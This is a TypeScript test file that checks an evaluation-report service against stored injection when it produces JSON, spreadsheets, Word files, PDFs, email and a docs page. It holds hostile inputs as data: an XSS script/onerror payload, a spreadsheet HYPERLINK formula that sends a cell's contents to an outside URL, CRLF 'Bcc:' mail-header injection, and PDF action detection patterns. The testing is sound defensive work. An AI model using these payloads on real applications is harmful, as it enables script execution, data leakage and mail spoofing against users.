import { expect } from 'chai';
import { importSmall, smallDocument, startTester } from '../test-support/tester.js';
import type { Json, Tester } from '../test-support/tester.js';
import { unzip } from '../test-support/unzip.js';

const SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>';
const FORMULA = '=HYPERLINK("http://example.org?"&A1,"点我")';

describe('texts that would act where they are shown', () => {
  let tester: Tester;
  let evaluation: Json;
  let notice: Json;
  const mails: Json[] = [];
  before(async () => {
    const mailer = { send: (mail: Json) => Promise.resolve(void mails.push(mail)) };
    tester = await startTester('sqlite', { mailer });
    const { system, ...document } = smallDocument();
    const [room, server] = document.objects;
    const findings = document.findings.map((finding) => ({
      ...finding,
      ...(finding.result === 'notApplicable' ? {} : { record: FORMULA }),
    }));
    evaluation = await importSmall(tester, {
      ...document,
      system: { ...system, name: `${SCRIPT} 系统`, organization: `${FORMULA} 单位` },
      objects: [
        { ...room!, name: FORMULA },
        { ...server!, name: SCRIPT },
      ],
      findings,
    });
    notice = (await tester.post(`/evaluations/${evaluation.id}/notices`, {})).body;
  });
  after(() => tester.stop());

  it('are plain JSON that no browser takes for a page', async () => {
    const answer = await tester.get(`/evaluations/${evaluation.id}`);
    expect(answer.headers.get('Content-Type')).to.equal('application/json; charset=utf-8');
    expect(answer.headers.get('X-Content-Type-Options')).to.equal('nosniff');
    expect(answer.body.systemName).to.include(SCRIPT);
    const refused = await tester.get(`/systems?${encodeURIComponent(SCRIPT)}=1`);
    expect(refused.headers.get('Content-Type')).to.match(/^application\/problem\+json/);
  });

  it('are text in a workbook: no cell is a formula, no markup is broken', async () => {
    const { bytes } = await tester.get(`/notices/${notice.id}/files/xlsx`);
    const parts = unzip(bytes);
    const sheets = [...parts].filter(([name]) => /worksheets\/.*\.xml$/.test(name)).map(([, text]) => text);
    expect(sheets.length).to.be.greaterThan(0);
    for (const sheet of sheets) expect(sheet).to.not.match(/<f[ >][^<]*HYPERLINK/);
    const all = [...parts.values()].join('');
    expect(all).to.not.include('<script>alert').and.not.include('<img src=x');
    expect(all).to.match(/=HYPERLINK\(/); // the text itself is there
  });

  it('are text in a Word paper and in a PDF, which carries no action', async () => {
    const word = await tester.get(`/papers/${notice.id}/files/docx`);
    expect(word.status).to.equal(200);
    const document = unzip(word.bytes).get('word/document.xml')!;
    expect(document).to.include('&lt;script&gt;').and.not.include('<script');
    expect(document).to.not.match(/w:instrText[^<]*HYPERLINK/);
    const pdf = await tester.get(`/notices/${notice.id}/files/pdf`);
    const text = pdf.bytes.toString('latin1');
    expect(text)
      .to.match(/^%PDF-/)
      .and.not.match(/\/JavaScript|\/JS\b|\/Launch|\/OpenAction/);
  });

  it('are text in a mail, whose subject stays one line', async () => {
    const { items } = (await tester.post(`/evaluations/${evaluation.id}/rectification-items`, {})).body;
    const settings = await tester.get('/rectification-settings');
    const { dueRules, reminderRules, holidays } = settings.body;
    const owner = '王某\r\nBcc: other@example.org';
    const put = await tester.call('PUT', '/rectification-settings', {
      body: { dueRules, reminderRules, holidays, mailAddresses: [{ owner: '王某', address: 'w@example.org' }] },
      headers: { 'If-Match': settings.etag },
    });
    expect(put.status, JSON.stringify(put.body)).to.equal(200);
    for (const name of [owner, '王某']) {
      const { etag } = await tester.get(`/rectification-items/${items[0].id}`);
      const body = { owner: name, title: `${SCRIPT}\r\nBcc: x@example.org`, dueDate: '2020-01-01' };
      await tester.call('PATCH', `/rectification-items/${items[0].id}`, { body, headers: { 'If-Match': etag } });
    }
    await tester.call('POST', '/jobs/daily');
    expect(mails.length).to.be.greaterThan(0);
    for (const mail of mails) {
      expect(mail.to).to.equal('w@example.org');
      expect(mail.subject).to.not.match(/[\r\n]/);
      expect(mail).to.not.have.property('html');
    }
  });

  it('are text on the page of the interface, which runs no script at all', async () => {
    const response = await fetch(`${tester.server.url}/api/docs/?q=${encodeURIComponent(SCRIPT)}`);
    expect(await response.text()).to.not.include('<script');
    expect(response.headers.get('Content-Security-Policy')).to.include("script-src 'self'");
  });
});
